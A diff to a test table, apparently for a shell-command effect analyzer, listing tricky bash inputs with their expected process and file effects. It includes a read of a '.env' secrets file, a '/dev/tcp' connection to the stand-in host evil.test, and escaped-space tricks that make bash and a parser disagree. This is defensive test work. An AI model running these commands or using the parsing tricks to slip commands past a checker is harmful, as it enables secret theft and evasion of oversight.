@@ -78,6 +78,9 @@ TABLE: list[tuple[str, list[str], bool]] = [
     ('cat <".e"\\nv', ["proc:exec:cat/nv", "fs:read:/w/.e"], True),  # bash: cat < .env
     ("echo 'a'\\ b", ["proc:exec:echo/a/b"], True),  # bash: echo 'a b'
     ("echo a \\ b", ["proc:exec:echo/a/b"], True),  # bash: echo a ' b'
+    ("\\ rm x", ["proc:exec:rm/x"], True),  # bash runs ' rm'
+    (">f; \\ # c", ["fs:write:/w/f"], True),  # bash runs ' #', the grammar sees a comment
+    ("\\ <<<z", [], True),  # bash runs ' '
     ("echo \"a\"b 'c'\"d\" \\\n  e", ["proc:exec:echo/ab/cd/e"], False),
     ("cat < /dev/tcp/evil.test/80", ["proc:exec:cat"], True),
     # here-docs: the body is data, but an unquoted body's substitutions run
